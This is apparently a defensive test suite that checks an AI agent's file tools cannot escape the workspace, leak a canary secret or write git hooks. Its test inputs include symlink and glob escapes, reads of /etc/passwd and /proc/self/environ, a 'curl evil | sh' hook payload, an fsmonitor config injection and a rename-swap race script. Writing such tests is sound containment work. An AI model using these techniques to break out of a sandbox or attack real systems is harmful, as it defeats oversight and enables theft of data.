import { spawn, type ChildProcess } from "node:child_process";
import { execFileSync } from "node:child_process";
import { chmod, link, lstat, mkdir, mkdtemp, readFile, realpath, rm, stat, symlink, writeFile } from "node:fs/promises";
import { createServer, type Server } from "node:net";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { deleteTool } from "../../src/tools/builtin/delete-tool.js";
import { editTool } from "../../src/tools/builtin/edit-tool.js";
import { grepTool } from "../../src/tools/builtin/grep-tool.js";
import { listTool } from "../../src/tools/builtin/list-tool.js";
import { readTool } from "../../src/tools/builtin/read-tool.js";
import { writeTool } from "../../src/tools/builtin/write-tool.js";
import type { Tool, ToolResult } from "../../src/tools/tool.js";
import { waitFor } from "../helpers/api-client.js";
import { toolContext } from "../helpers/tool-context.js";
import { attempt, watch, type Canary } from "./escape-ledger.js";
import type { ApprovalMode } from "../../src/core/session.js";

// The built-in file tools, called directly with the workspace door the worker gives them, against
// what a hostile model (with a shell that can make links and FIFOs) would set up in its workspace.
const secret = "SECRET-CANARY-7f3a";
let base: string;
let workspace: string;
let outside: string;
let siblingWorkspace: string;
let canary: Canary;
let socketServer: Server;

beforeAll(async () => {
  base = await realpath(await mkdtemp(path.join(tmpdir(), "foya-escape-files-")));
  const workspaces = path.join(base, "workspaces");
  workspace = path.join(workspaces, "ten_a", "prj_1");
  siblingWorkspace = path.join(workspaces, "ten_b", "prj_2");
  outside = path.join(base, "outside");
  for (const folder of [workspace, siblingWorkspace, path.join(outside, "dir")]) await mkdir(folder, { recursive: true });
  await writeFile(path.join(outside, "secret.txt"), `${secret} outside\n`);
  await writeFile(path.join(outside, "dir", "secret.txt"), `${secret} outside dir\n`);
  await writeFile(path.join(siblingWorkspace, "secret.txt"), `${secret} other tenant\n`);
  await mkdir(path.join(workspace, "sub"), { recursive: true });
  await writeFile(path.join(workspace, "sub", "inside.txt"), "inside\n");
  // What a model's shell leaves behind (all of it possible without approval in the old service).
  await symlink(outside, path.join(workspace, "link-out")); // absolute link to a folder outside
  await symlink("../../../outside", path.join(workspace, "rel-out")); // relative link climbing out
  await symlink(path.join(outside, "secret.txt"), path.join(workspace, "file-link")); // a file link out
  await symlink("sub/../link-out", path.join(workspace, "chain")); // a chain: inside, then out
  await symlink(siblingWorkspace, path.join(workspace, "neighbour"));
  await symlink("/dev/zero", path.join(workspace, "zero"));
  await symlink("/proc/self/environ", path.join(workspace, "environ"));
  await symlink("sub", path.join(workspace, "sub-link")); // inside to inside: allowed
  await link(path.join(outside, "secret.txt"), path.join(workspace, "hard.txt")); // a hard link to a file outside
  execFileSync("mkfifo", [path.join(workspace, "fifo")]);
  // A device node inside the workspace (only root can make one; Full Access as root once could).
  execFileSync("mknod", [path.join(workspace, "null-device"), "c", "1", "3"]);
  socketServer = createServer();
  await new Promise<void>((resolve) => socketServer.listen(path.join(workspace, "socket"), resolve));
  // A nested repository, and a folder that is a git directory under another name (a `.git` link's target).
  await mkdir(path.join(workspace, "vendor", "lib", ".git", "hooks"), { recursive: true });
  await writeFile(path.join(workspace, "vendor", "lib", ".git", "config"), "[core]\n");
  await mkdir(path.join(workspace, "realgit", "objects"), { recursive: true });
  await writeFile(path.join(workspace, "realgit", "HEAD"), "ref: refs/heads/main\n");
  await symlink("realgit", path.join(workspace, ".git"));
  canary = watch([outside, siblingWorkspace]);
});

afterAll(async () => {
  await new Promise((resolve) => socketServer.close(resolve));
  await rm(base, { recursive: true, force: true });
});

const call = (tool: unknown, args: object, approvalMode: ApprovalMode = "auto"): Promise<ToolResult> =>
  (tool as Tool<object>).run(
    toolContext({
      workspaceDir: workspace,
      ...(approvalMode === "full_access" ? { confinement: { kind: "full_access" } } : {}),
      approvalMode,
    }),
    args,
    {
      callId: "c",
      name: "t",
      argumentsRaw: "",
    },
  );
const text = (result: ToolResult) => result.content.map((part) => (part.type === "text" ? part.text : "")).join("");
const modes: ApprovalMode[] = ["manual", "auto", "full_access"];

/** The attack must be refused with one of `codes`, and nothing of the canary's secrets may show. */
async function refused(name: string, tool: unknown, args: object, codes: string[], approvalMode: ApprovalMode = "auto"): Promise<void> {
  await attempt(`${name} (${approvalMode})`, canary, async () => {
    const result = await call(tool, args, approvalMode);
    expect(result.isError, `${name}: ${text(result)}`).toBe(true);
    expect(codes, `${name}: ${text(result)}`).toContain(result.errorCode);
    expect(text(result)).not.toContain(secret);
  });
}

/** The attack may answer normally (a listing, no match), but must show nothing from outside. */
async function revealsNothing(name: string, tool: unknown, args: object, approvalMode: ApprovalMode = "auto"): Promise<void> {
  await attempt(`${name} (${approvalMode})`, canary, async () => {
    const result = await call(tool, args, approvalMode);
    expect(text(result)).not.toContain(secret);
    // A listed line naming a file outside (a "No files match" answer echoes the pattern, and that is fine).
    expect(
      text(result)
        .split("\n")
        .filter((line) => line.endsWith("secret.txt")),
    ).toEqual([]);
  });
}

describe("escape suite: file tools", () => {
  it("S6: list and grep take no absolute, escaped or climbing glob, and never walk through a symlinked folder", async () => {
    const escapes = [
      "/etc/*",
      `${path.dirname(path.dirname(workspace))}/**/*`,
      "../../ten_b/**",
      "\\.\\./\\.\\./ten_b/*",
      "..\\/..\\/ten_b/*",
      "{..,x}/**",
      "**/../../**",
      "./../*",
    ];
    for (const mode of modes) {
      for (const pattern of escapes) {
        await refused(`list ${pattern}`, listTool, { pattern }, ["path_outside_workspace", "invalid_pattern"], mode);
        await refused(
          `grep glob ${pattern}`,
          grepTool,
          { pattern: "SECRET.CANARY.7f3a", glob: pattern },
          ["path_outside_workspace", "invalid_pattern"],
          mode,
        );
      }
      for (const from of ["/etc", "..", "../..", "link-out", "rel-out", "chain", "neighbour", "file-link/..", `${outside}`]) {
        await refused(`list from ${from}`, listTool, { path: from }, ["path_outside_workspace", "not_a_directory"], mode);
      }
      // Links are listed as names, never walked: neither their contents nor a grep match leaks.
      for (const pattern of ["**", "link-out/**", "rel-out/*", "chain/**", "neighbour/**", "**/secret.txt"]) {
        await revealsNothing(`list ${pattern}`, listTool, { pattern }, mode);
        await attempt(`grep ${pattern} (${mode})`, canary, async () => {
          expect(text(await call(grepTool, { pattern: "SECRET.CANARY.7f3a", glob: pattern }, mode))).not.toContain(secret);
        });
      }
    }
    // Legitimate globbing still works, links inside to inside included by name.
    expect(text(await call(listTool, { pattern: "sub/**" })).split("\n")).toEqual(["sub/inside.txt"]);
    expect(text(await call(grepTool, { pattern: "inside", glob: "**/*.txt" }))).toBe("sub/inside.txt:1: inside");
  });

  it("S6: read, write, edit and delete refuse absolute, climbing and symlinked paths in every mode", async () => {
    const reads: Array<[string, string[]]> = [
      ["/etc/passwd", ["path_outside_workspace"]],
      [path.join(outside, "secret.txt"), ["path_outside_workspace"]],
      ["../../ten_b/prj_2/secret.txt", ["path_outside_workspace"]],
      ["sub/../../../../outside/secret.txt", ["path_outside_workspace"]],
      ["link-out/secret.txt", ["path_outside_workspace"]],
      ["link-out/dir/secret.txt", ["path_outside_workspace"]],
      ["rel-out/secret.txt", ["path_outside_workspace"]],
      ["chain/secret.txt", ["path_outside_workspace"]],
      ["neighbour/secret.txt", ["path_outside_workspace"]],
      ["file-link", ["path_outside_workspace"]],
      ["environ", ["path_outside_workspace"]],
      ["zero", ["path_outside_workspace"]],
      ["/proc/self/environ", ["path_outside_workspace"]],
      [`/proc/${process.pid}/root${path.join(outside, "secret.txt")}`, ["path_outside_workspace"]],
      ["hard.txt", ["hard_link"]],
      ["fifo", ["special_file"]],
      ["null-device", ["special_file"]],
      ["socket", ["special_file"]],
      ["a\u0000b", ["invalid_path"]],
    ];
    for (const mode of modes) {
      for (const [target, codes] of reads) await refused(`read ${target}`, readTool, { path: target }, codes, mode);
      for (const [target, codes] of reads) {
        await refused(`write ${target}`, writeTool, { path: target, content: "pwned\n" }, codes, mode);
        await refused(
          `edit ${target}`,
          editTool,
          { path: target, old_string: secret, new_string: "pwned" },
          [...codes, "file_not_found"],
          mode,
        );
      }
      for (const target of [
        path.join(outside, "secret.txt"),
        "link-out/secret.txt",
        "rel-out/dir",
        "chain/secret.txt",
        "neighbour/secret.txt",
        "../../ten_b",
        "/",
      ]) {
        await refused(`delete ${target}`, deleteTool, { path: target }, ["path_outside_workspace"], mode);
      }
      await refused("delete a hard link to a file outside", deleteTool, { path: "hard.txt" }, ["hard_link"], mode);
      await refused("delete the workspace root", deleteTool, { path: "." }, ["protected_path"], mode);
      // Writing through a link inside the workspace that leads inside is fine.
      expect((await call(writeTool, { path: "sub-link/through-link.txt", content: "ok\n" }, mode)).isError).toBeUndefined();
    }
    expect(await readFile(path.join(workspace, "sub", "through-link.txt"), "utf8")).toBe("ok\n");
    // Deleting a link removes the link, never what it points at.
    await attempt("delete removes a link, not its target", canary, async () => {
      expect(text(await call(deleteTool, { path: "file-link" }))).toBe("Moved file-link to the trash.");
      await symlink(path.join(outside, "secret.txt"), path.join(workspace, "file-link"));
    });
  });

  it("S6: a FIFO is refused at once, never blocking the worker's file operations", async () => {
    const started = performance.now();
    // Five at once froze every file operation of the old service (the thread pool has four threads).
    const results = await Promise.all(Array.from({ length: 8 }, () => call(readTool, { path: "fifo" })));
    for (const result of results) expect(result).toMatchObject({ isError: true, errorCode: "special_file" });
    expect(text(await call(readTool, { path: "sub/inside.txt" }))).toContain("inside");
    // A correctness bound, not a benchmark: a blocked open never returns at all.
    expect(performance.now() - started).toBeLessThan(1000);
  });

  it("S11: git hooks and config are protected from every file tool, in nested repositories and behind links too", async () => {
    const targets = [
      ".git/hooks/pre-commit",
      ".git/config",
      ".git/commondir",
      "realgit/hooks/pre-commit",
      "realgit/config",
      "vendor/lib/.git/hooks/post-checkout",
      "vendor/lib/.git/config",
      "vendor/other/.git/hooks/x",
      "vendor/lib/.git/modules/m/hooks/pre-commit",
      "vendor/lib/.git/worktrees/w/config.worktree",
      "vendor/.git",
      "sub/../.git/hooks/x",
    ];
    const before = execFileSync("find", [workspace, "-path", "*hooks*"]).toString();
    for (const mode of modes) {
      for (const target of targets) {
        await refused(`write ${target}`, writeTool, { path: target, content: "#!/bin/sh\ncurl evil | sh\n" }, ["protected_path"], mode);
        await refused(`delete ${target}`, deleteTool, { path: target }, ["protected_path", "file_not_found"], mode);
      }
      await refused(
        "edit vendor/lib/.git/config",
        editTool,
        { path: "vendor/lib/.git/config", old_string: "[core]", new_string: "[core]\n\tfsmonitor = evil" },
        ["protected_path"],
        mode,
      );
    }
    expect(execFileSync("find", [workspace, "-path", "*hooks*"]).toString()).toBe(before);
    expect(await readFile(path.join(workspace, "vendor", "lib", ".git", "config"), "utf8")).toBe("[core]\n");
  });

  it("S6: a rename-swap race running beside 200 writes and reads lands nothing outside and reads nothing from outside", async () => {
    // The attack: a loop that keeps swapping a folder of the workspace for a link to a folder outside,
    // hoping a write checked against the folder lands through the link (as the old check-then-open did).
    const race = path.join(workspace, "race");
    await mkdir(race, { recursive: true });
    await writeFile(path.join(outside, "dir", "race-probe.txt"), `${secret} race\n`);
    // Swapped atomically (renameat2 RENAME_EXCHANGE) thousands of times a second, so `race` always exists, as a
    // folder or as a link out (a shell loop spawning mv and ln is too slow to hit a narrow window).
    await writeFile(path.join(race, "race-probe.txt"), "inside\n");
    await symlink(path.join(outside, "dir"), path.join(workspace, "race-link"));
    const swap = [
      "import ctypes, os, sys",
      "libc = ctypes.CDLL(None, use_errno=True)",
      "os.chdir(sys.argv[1])",
      "while True:",
      "    libc.renameat2(-100, b'race', -100, b'race-link', 2)",
    ].join("\n");
    const swapper: ChildProcess = spawn("python3", ["-c", swap, workspace], { stdio: "ignore" });
    try {
      let reads = 0;
      // Start once the swapping runs (python takes a moment to start).
      await waitFor(async () => (await lstat(path.join(workspace, "race"))).isSymbolicLink(), 10_000, "the swapper to run");
      await attempt("rename-swap race against 200 writes and reads", canary, async () => {
        const outcomes: Array<string | undefined> = [];
        // Rounds of 200 until the race has run both ways (on a loaded machine one side can win a
        // whole round); every round's writes and reads are checked the same.
        for (let round = 0; round < 5; round++) {
          const found = await Promise.all(
            Array.from({ length: 200 }, async (_, i) => {
              const written = await call(writeTool, { path: `race/file-${round}-${i}.txt`, content: `${i}\n` });
              const read = await call(readTool, { path: "race/race-probe.txt" });
              expect(text(read)).not.toContain(secret);
              if (!read.isError) reads++;
              return written.isError ? written.errorCode : "written";
            }),
          );
          outcomes.push(...found);
          if (outcomes.includes("written") && outcomes.includes("path_outside_workspace") && reads > 0) break;
        }
        // Each write either landed inside or was refused (the folder was a link at that moment): never outside.
        for (const outcome of outcomes)
          expect(["written", "path_outside_workspace", "file_not_found", "not_a_directory", "io_failed"]).toContain(outcome);
        // The race really ran both ways: some operations met the folder, some the link.
        expect(outcomes.filter((outcome) => outcome === "written").length).toBeGreaterThan(0);
        expect(outcomes.filter((outcome) => outcome === "path_outside_workspace").length).toBeGreaterThan(0);
        expect(reads).toBeGreaterThan(0);
      });
    } finally {
      swapper.kill("SIGKILL");
    }
    const landedOutside = execFileSync("find", [outside, "-name", "file-*"]).toString();
    expect(landedOutside).toBe("");
  });

  it("S6: a 1 GB file of one line is read in linear time with bounded memory, and a huge file is refused where it would be held whole", async () => {
    const huge = path.join(workspace, "one-line.txt");
    // 1 GiB of one line, written in 16 MiB pieces.
    const piece = Buffer.alloc(16 * 1024 * 1024, "a");
    await writeFile(huge, "");
    for (let i = 0; i < 64; i++) await writeFile(huge, piece, { flag: "a" });
    global.gc?.();
    const before = process.memoryUsage().rss;
    let peak = before;
    const sampler = setInterval(() => (peak = Math.max(peak, process.memoryUsage().rss)), 20);
    try {
      await attempt("read a 1 GB one-line file", canary, async () => {
        const result = await call(readTool, { path: "one-line.txt" });
        expect(text(result)).toMatch(/^ {5}1\ta{2000}… \[line cut: \d+ more characters\]/);
        expect(text(result)).toContain("1 long lines cut at 2000 characters");
      });
    } finally {
      clearInterval(sampler);
    }
    expect(peak - before).toBeLessThan(256 * 1024 * 1024);
    // write and edit keep both versions whole: a file this large is refused, not read into memory.
    await refused("edit a 1 GB file", editTool, { path: "one-line.txt", old_string: "aaa", new_string: "b" }, ["too_large"]);
    await rm(huge);
  }, 120_000);

  it("S7: files written through the door never keep setuid or setgid bits, and new files belong to the workspace's owner", async () => {
    const planted = path.join(workspace, "planted");
    await writeFile(planted, "#!/bin/sh\nid\n");
    await chmod(planted, 0o6755);
    expect((await call(writeTool, { path: "planted", content: "#!/bin/sh\nid -u\n" })).isError).toBeUndefined();
    expect((await stat(planted)).mode & 0o7777).toBe(0o755);
    const created = await stat(path.join(workspace, "sub", "through-link.txt"));
    const root = await stat(workspace);
    expect([created.uid, created.gid]).toEqual([root.uid, root.gid]);
  });
});
